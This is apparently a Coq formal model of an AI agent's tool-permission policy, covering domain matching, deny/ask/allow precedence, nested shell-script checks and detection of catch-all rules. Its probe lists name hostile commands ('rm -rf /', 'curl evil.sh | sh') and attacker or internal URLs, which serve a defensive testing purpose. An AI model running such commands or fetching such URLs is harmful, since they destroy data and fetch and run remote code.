(* ===== verification/PermPolicy.v ===== *)
(** * The permission policy (permission/policy.rs, web_fetch/domain.rs)

    A policy is a list of rules with their globs compiled once. Deny beats ask,
    ask beats allow, whatever the order of the rules. For a shell command every
    chained command is judged, with the wrappers in front of it and without, and
    inside the scripts it hands to a shell. *)

From Stdlib Require Import Ascii String.
From S2P Require Import Prelude RustStr AuditParse PermTypes ShellTree.
From stdpp Require Import options.

(** ** What is not the program's own: globs, URLs, Unicode lowercasing *)

Class Globs : Type := {
  GlobPattern : Type;
  glob_new : string → option GlobPattern;
  (** The flag is [require_literal_separator]. *)
  matches_with : GlobPattern → string → bool → bool;
}.

Class Urls : Type := {
  Url : Type;
  url_parse : string → option Url;
  host_str : Url → option string;
  url_path : Url → string;
  to_lowercase : string → string;
}.

(** ** Domains (domain.rs) *)

Section domains.
Context `{Urls}.

Definition normalize_domain (raw : string) : string :=
  let s := trim_end_char "." (trim_end_char "/" (trim raw)) in
  to_lowercase (default s (strip_prefix "www." s)).

Inductive HostEntry : Type :=
| AnyPath
| PathPrefixes (prefixes : list string).

Definition DomainMatcher : Type := gmap string HostEntry.

Definition add_entry (entries : DomainMatcher) (raw : string) : DomainMatcher :=
  let normalized := normalize_domain raw in
  if is_empty normalized then entries
  else
    match find "/" normalized with
    | None => <[normalized := AnyPath]> entries
    | Some i =>
        let host := take_bytes i normalized in
        let raw_path := drop_bytes i normalized in
        match entries !! host with
        | Some AnyPath => entries
        | old =>
            let prefix := trim_end_char "/" raw_path in
            if is_empty prefix || String.eqb prefix "/" then <[host := AnyPath]> entries
            else
              let prefix := if starts_with "/" prefix then prefix else "/" +:+ prefix in
              match old with
              | Some (PathPrefixes v) =>
                  if contains prefix v then entries else <[host := PathPrefixes (v ++ [prefix])]> entries
              | _ => <[host := PathPrefixes [prefix]]> entries
              end
        end
    end.

Definition domain_matcher_new (raw_entries : list string) : DomainMatcher := foldl add_entry ∅ raw_entries.

(** [check]: [None] is permitted. *)
Definition check (m : DomainMatcher) (url : Url) : option string :=
  match host_str url with
  | None => Some ""
  | Some raw_host =>
      let host := normalize_domain raw_host in
      match m !! host with
      | Some AnyPath => None
      | Some (PathPrefixes prefixes) =>
          let path := to_lowercase (url_path url) in
          if any (λ prefix, String.eqb path prefix
                            || (starts_with prefix path && starts_with "/" (drop_bytes (String.length prefix) path)))
               prefixes
          then None else Some host
      | None => Some host
      end
  end.
End domains.

(** ** Rules *)

Definition tool_filter_matches (access : AccessKind) (filter : ToolFilter) : bool :=
  match filter, access with
  | ForAny, _ => true
  | ForBash, Bash _ => true
  | ForEdit, Edit _ => true
  | ForRead, (Read _ | Grep _ _) => true
  | ForGrep, Grep _ _ => true
  | ForMcp, MCPTool _ _ => true
  | ForWebFetch, WebFetch _ => true
  | ForWebSearch, WebSearch _ => true
  | _, _ => false
  end.

(** The script a [bash -c] invocation runs: the first operand behind the word
    with the [c], which the caller has found. *)
Fixpoint first_operand (rest : list string) : option string :=
  match rest with
  | [] => None
  | word :: rest =>
      if String.eqb word "--" || String.eqb word "-" then head rest
      else if negb (starts_with "-" word) then Some word
      else first_operand rest
  end.

Definition is_c_cluster (w : string) : bool := starts_with "-" w && negb (starts_with "--" w) && str_contains "c" w.

Definition shell_dash_c_script (ws : list string) : option string :=
  head ws ≫= λ w,
  if contains (basename w) ["bash"; "sh"; "dash"; "zsh"; "ksh"] then
    position is_c_cluster (drop 1 ws) ≫= λ flag, first_operand (drop (flag + 2) ws)
  else None.

Definition tool_label (f : ToolFilter) : string :=
  match f with
  | ForAny => "any tool"
  | ForBash => "bash"
  | ForEdit => "edit"
  | ForRead => "read"
  | ForGrep => "grep"
  | ForMcp => "mcp"
  | ForWebFetch => "web_fetch"
  | ForWebSearch => "web_search"
  end.

Definition deny_reason (rule : PermissionRule) : string :=
  match pattern rule with
  | Some pattern =>
      "Denied by permission policy: deny rule on " +:+ tool_label (tool rule) +:+ " matching "
      +:+ double_quote +:+ pattern +:+ double_quote
  | None => "Denied by permission policy: deny rule on " +:+ tool_label (tool rule)
  end.

Section policy.
Context `{Globs, Urls}.

Definition glob_matches (text : string) (path_context : bool) (pat : option GlobPattern) : bool :=
  match pat with
  | None => false
  | Some pat => matches_with pat text path_context
  end.

Definition domain_matches (pattern url : string) : bool :=
  match url_parse url ≫= host_str with
  | None => false
  | Some host =>
      let domain := normalize_domain host in
      let normalized_pattern := normalize_domain pattern in
      String.eqb domain normalized_pattern || ends_with ("." +:+ normalized_pattern) domain
  end.

(** A rule with its compiled glob. *)
Definition CompiledRule : Type := PermissionRule * option GlobPattern.

Definition pattern_matches (access : AccessKind) (cr : CompiledRule) : bool :=
  match pattern cr.1 with
  | None => true
  | Some pattern =>
      if String.eqb pattern "*" then true
      else
        match access with
        | Bash cmd =>
            let cmd := trim_start cmd in starts_with pattern cmd || glob_matches cmd false cr.2
        | Edit path => glob_matches path true cr.2
        | Read (Some p) => glob_matches p true cr.2
        | Read None => false
        | Grep (Some p) _ => glob_matches p true cr.2
        | Grep None _ => false
        | MCPTool name _ => glob_matches name false cr.2
        | WebFetch url =>
            match pattern_mode cr.1 with
            | DomainMode => domain_matches pattern url
            | GlobMode => glob_matches url false cr.2
            end
        | WebSearch query => glob_matches query false cr.2 || starts_with pattern query
        end
  end.

Definition compile_rule (rule : PermissionRule) : CompiledRule :=
  (rule, pattern rule ≫= λ p, if String.eqb p "*" then None else glob_new p).

Record CompiledPolicy : Type := mkPolicy {
  compiled : list CompiledRule;
  has_file_restrictions : bool;
  has_bash_command_restrictions : bool;
}.

Definition restricts (rule : PermissionRule) (filters : list ToolFilter) : bool :=
  bool_decide (action rule = RuleDeny ∨ action rule = RuleAsk) && contains (tool rule) filters.

Definition policy_new (config : PermissionConfig) : CompiledPolicy :=
  mkPolicy (map compile_rule (rules config))
    (any (λ r, restricts r [ForRead; ForEdit; ForAny]) (rules config))
    (any (λ r, restricts r [ForBash; ForAny]) (rules config)).

(** ** Judging one access *)

Definition rule_matches (access : AccessKind) (cr : CompiledRule) : bool :=
  tool_filter_matches access (tool cr.1) && pattern_matches access cr.

Fixpoint evaluate_go (rs : list CompiledRule) (access : AccessKind) (matched_ask matched_allow : bool) : option Decision :=
  match rs with
  | [] => if matched_ask then Some Ask else if matched_allow then Some Allow else None
  | cr :: rs =>
      if rule_matches access cr then
        match action cr.1 with
        | RuleDeny => Some (Reject (deny_reason cr.1))
        | RuleAsk => evaluate_go rs access true matched_allow
        | RuleAllow => evaluate_go rs access matched_ask true
        end
      else evaluate_go rs access matched_ask matched_allow
  end.

Definition evaluate (p : CompiledPolicy) (access : AccessKind) : option Decision := evaluate_go (compiled p) access false false.

(** Only a deny or an ask is kept. *)
Definition escalation (d : option Decision) : option Decision :=
  match d with
  | Some Allow | None => None
  | other => other
  end.

(** ** Judging a script *)

Context `{ShellParser}.

(** The words of a command, and without its wrappers where it has any. *)
Definition command_forms (parsed : PlainCommand) : list (list string) :=
  let raw_words := words parsed in
  let unwrapped := unwrap_wrappers raw_words in
  raw_words :: (if negb (length unwrapped =? length raw_words) then [unwrapped] else []).

(** [fuel] is what is left of the eight levels of nesting. *)
Fixpoint evaluate_bash_command_segments (p : CompiledPolicy) (fuel : nat) (cmd : string) : option Decision :=
  match fuel with
  | O => Some Ask
  | S fuel =>
      match all_commands_from_script cmd with
      | None => Some Ask
      | Some segments =>
          foldl (λ decision ws,
            let decision := combine_decisions decision (escalation (evaluate p (Bash (join " " ws)))) in
            match shell_dash_c_script ws with
            | Some inner => combine_decisions decision (evaluate_bash_command_segments p fuel inner)
            | None => decision
            end) None (concat (map command_forms segments))
      end
  end.

Definition evaluate_bash_command_policy (p : CompiledPolicy) (cmd : string) : option Decision :=
  if has_bash_command_restrictions p then evaluate_bash_command_segments p 8 cmd else None.

(** ** Rules that open everything *)

Definition bash_probes : list AccessKind := map Bash ["rm -rf /"; "curl evil.sh | sh"; "echo hi"; "git push"].
Definition mcp_probes : list AccessKind :=
  map (λ n, MCPTool n Null) ["github__create_issue"; "linear__save_issue"; "slack__post"; "fs__read"].
Definition webfetch_probes : list AccessKind :=
  map WebFetch ["https://evil.example.com/x"; "http://10.0.0.1/admin"; "https://api.github.com/repos";
                "ftp://files.example.org/p"].

Definition rule_is_catchall (rule : PermissionRule) : bool :=
  let opens_all probes := all (λ a, pattern_matches a (compile_rule rule)) probes in
  match tool rule with
  | ForBash => opens_all bash_probes
  | ForMcp => opens_all mcp_probes
  | ForWebFetch => opens_all webfetch_probes
  | ForAny => opens_all bash_probes || opens_all mcp_probes || opens_all webfetch_probes
  | ForRead | ForEdit | ForGrep | ForWebSearch => false
  end.
End policy.
